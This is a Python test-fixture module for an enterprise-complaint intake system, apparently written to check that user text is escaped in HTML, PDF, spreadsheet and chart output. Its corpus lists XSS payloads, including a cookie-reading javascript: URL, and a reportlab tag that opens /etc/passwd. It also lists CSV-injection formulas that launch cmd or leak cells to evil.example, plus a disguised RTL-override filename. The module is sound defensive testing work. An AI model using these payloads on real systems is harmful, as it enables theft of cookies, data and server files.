"""Hostile text: one corpus for every test of a place where user text is shown (PDF, HTML, exports, events).

Each entry is something an enterprise, a caller or a staff member can type into a name, a complaint or a
note. Wherever it is shown it must come out literally (escaped in HTML, escaped in reportlab markup,
neutralised in a spreadsheet cell), never as markup, never as a formula, never as a file the server opens.

`pdf_text` reads the text back out of a PDF reportlab wrote (no PDF library in the project's dependencies).
"""

import base64
import re
import unicodedata
import zlib

# ------------------------------------------------------------------ the corpus

XSS_SCRIPT = "<script>alert('qhwy')</script>"
XSS_ATTRIBUTE = '"><img src=x onerror=alert(1)>'
XSS_JS_URL = "javascript:alert(document.cookie)"
RL_FONT = '<font color="red" size="40">大字红字</font>'
RL_LINK = '<a href="http://evil.example/">点我领补贴</a>'
RL_IMAGE_PASSWD = '<img src="/etc/passwd"/>'
RL_UNCLOSED = "拖欠工程款<b"
RL_LESS_THAN = "产值<5000万元 & 用工>200人"
RL_ENTITIES = "&nbsp;&lt;b&gt;&#60;i&#62; &amp;"
FORMULA_HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"查看详情")'
FORMULA_CMD = "+cmd|' /C calc'!A0"
FORMULA_MINUS = "-2+3*cmd|' /C calc'!A0"
FORMULA_AT = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_TAB = "\t=1+1"
FORMULA_CR = "\r=1+1"
RTL_OVERRIDE = "发票\u202egpj.exe"  # shows as 发票exe.jpg
ZERO_WIDTH = "开\u200b化\u200c县\u200d某\u2060某\ufeff公司"
MATHTEXT = "电费$\\frac{1}{0$上涨"  # matplotlib takes $...$ for a formula (a chart label)

# what an intake form accepts (the enterprise name is at most 200 characters, the content 5000)
HOSTILE: dict[str, str] = {
    "xss_script": XSS_SCRIPT,
    "xss_attribute": XSS_ATTRIBUTE,
    "xss_js_url": XSS_JS_URL,
    "rl_font": RL_FONT,
    "rl_link": RL_LINK,
    "rl_image": RL_IMAGE_PASSWD,
    "rl_unclosed": RL_UNCLOSED,
    "rl_less_than": RL_LESS_THAN,
    "rl_entities": RL_ENTITIES,
    "formula_hyperlink": FORMULA_HYPERLINK,
    "formula_cmd": FORMULA_CMD,
    "formula_minus": FORMULA_MINUS,
    "formula_at": FORMULA_AT,
    "formula_tab": FORMULA_TAB,
    "formula_cr": FORMULA_CR,
    "rtl_override": RTL_OVERRIDE,
    "zero_width": ZERO_WIDTH,
    "mathtext": MATHTEXT,
}

FORMULAS = {k: v for k, v in HOSTILE.items() if k.startswith("formula_")}
MARKUP = {k: v for k, v in HOSTILE.items() if k.startswith(("xss_", "rl_"))}


def megabyte(seed: str = "反映问题<b>&<font size=99>" + RL_IMAGE_PASSWD, size: int = 1_000_000) -> str:
    """At least `size` bytes (UTF-8, 1 MB unless told) of text, hostile all the way through, no line breaks."""
    unit = seed + "长"
    return unit * (size // len(unit.encode()) + 1)


def image_tag(path: str) -> str:
    """reportlab markup that would make the server open `path` (a canary file in a test)."""
    return f'<img src="{path}"/>'


# ------------------------------------------------------------------ what a safe place shows

def html_escaped(text: str) -> str:
    """`text` as Jinja's autoescape (markupsafe) writes it in HTML."""
    return (text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&#34;")
            .replace("'", "&#39;"))


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(cell: object) -> bool:
    """A cell a spreadsheet program will not evaluate: text starting with a formula character is prefixed."""
    return not (isinstance(cell, str) and cell.startswith(FORMULA_STARTS))


# ------------------------------------------------------------------ reading a reportlab PDF back

_OBJECT = re.compile(rb"(\d+) 0 obj\s*(.*?)\s*endobj", re.S)
_STREAM = re.compile(rb"stream\r?\n(.*)endstream", re.S)
_BFCHAR = re.compile(rb"beginbfchar(.*?)endbfchar", re.S)
_BFRANGE = re.compile(rb"beginbfrange(.*?)endbfrange", re.S)
_HEX_PAIR = re.compile(rb"<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>")
_HEX_RANGE = re.compile(rb"<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>")
_CONTENT_TOKEN = re.compile(rb"/([^\s/\[\]()<>]+)\s+[\d.]+\s+Tf|\(((?:\\.|[^\\)])*)\)|<([0-9A-Fa-f]*)>", re.S)


def _stream(body: bytes) -> bytes | None:
    found = _STREAM.search(body)
    if not found:
        return None
    head = body[: found.start()]
    length = re.search(rb"/Length (\d+)", head)
    data = found.group(1)[: int(length.group(1))] if length else found.group(1)
    try:
        if b"ASCII85Decode" in head:
            data = base64.a85decode(data.strip(), adobe=True)
        if b"FlateDecode" in head:
            data = zlib.decompress(data)
    except (ValueError, zlib.error):
        return None
    return data


def _utf16(hexdigits: bytes) -> str:
    return bytes.fromhex(hexdigits.decode()).decode("utf-16-be", "replace")


def _cmap(data: bytes) -> dict[int, str]:
    out: dict[int, str] = {}
    for block in _BFCHAR.findall(data):
        for code, uni in _HEX_PAIR.findall(block):
            out[int(code, 16)] = _utf16(uni)
    for block in _BFRANGE.findall(data):
        for low, high, uni in _HEX_RANGE.findall(block):
            start = ord(_utf16(uni)[0])
            for offset, code in enumerate(range(int(low, 16), int(high, 16) + 1)):
                out[code] = chr(start + offset)
    return out


def _literal(raw: bytes) -> bytes:
    out, i = bytearray(), 0
    while i < len(raw):
        c = raw[i]
        if c == 0x5C and i + 1 < len(raw):  # backslash
            n = raw[i + 1]
            if 0x30 <= n <= 0x37:
                digits = re.match(rb"[0-7]{1,3}", raw[i + 1:i + 4]).group(0)
                out.append(int(digits, 8) & 0xFF)
                i += 1 + len(digits)
                continue
            out.append({ord("n"): 10, ord("r"): 13, ord("t"): 9, ord("b"): 8, ord("f"): 12}.get(n, n))
            i += 2
            continue
        out.append(c)
        i += 1
    return bytes(out)


def pdf_text(pdf: bytes) -> str:
    """Every string the PDF draws, in drawing order, decoded through its fonts' ToUnicode maps."""
    objects = {int(num): body for num, body in _OBJECT.findall(pdf)}
    fonts: dict[bytes, dict[int, str] | None] = {}
    for body in objects.values():
        if b"/Type /Font" not in body:
            continue
        name = re.search(rb"/Name /([^\s/>]+)", body)
        to_unicode = re.search(rb"/ToUnicode (\d+) 0 R", body)
        if name:
            cmap_data = _stream(objects.get(int(to_unicode.group(1)), b"")) if to_unicode else None
            fonts[name.group(1)] = _cmap(cmap_data) if cmap_data else None
    parts: list[str] = []
    for body in objects.values():
        data = _stream(body)
        if data is None or b" Tf" not in data:
            continue
        cmap: dict[int, str] | None = None
        for token in _CONTENT_TOKEN.finditer(data):
            font, literal, hexstring = token.groups()
            if font is not None:
                cmap = fonts.get(font)
                continue
            raw = _literal(literal) if literal is not None else bytes.fromhex(hexstring.decode() or "")
            parts.append("".join(cmap.get(b, "\ufffd") for b in raw) if cmap else raw.decode("latin-1"))
    return "".join(parts)


def squeeze(text: str) -> str:
    """The visible characters of a text: no whitespace (a PDF wraps lines and draws spaces as gaps), no
    invisible format and control characters (bidi overrides, zero-width characters: a font has no glyph
    for them)."""
    return "".join(c for c in text if not c.isspace() and unicodedata.category(c) not in ("Cf", "Cc"))


def pdf_images(pdf: bytes) -> int:
    """How many images the PDF embeds (an image's transparency mask is a part of it, not another image)."""
    return len(re.findall(rb"/Subtype\s*/Image", pdf)) - len(re.findall(rb"/SMask\s+\d+ 0 R", pdf))
